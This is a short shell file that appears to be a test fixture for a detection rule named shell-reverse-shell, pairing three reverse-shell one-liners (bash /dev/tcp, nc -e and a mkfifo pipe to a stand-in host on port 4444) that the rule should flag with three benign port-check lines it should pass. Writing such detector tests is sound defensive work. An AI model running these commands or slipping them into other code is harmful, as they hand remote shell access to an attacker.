#!/bin/bash
# ruleid: shell-reverse-shell
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# ruleid: shell-reverse-shell
nc -e /bin/sh 203.0.113.9 4444
# ruleid: shell-reverse-shell
mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
# ok: shell-reverse-shell
nc -z db.example.com 5432
# ok: shell-reverse-shell
timeout 1 bash -c '</dev/tcp/db.example.com/5432'
# ok: shell-reverse-shell
bash -i script.sh
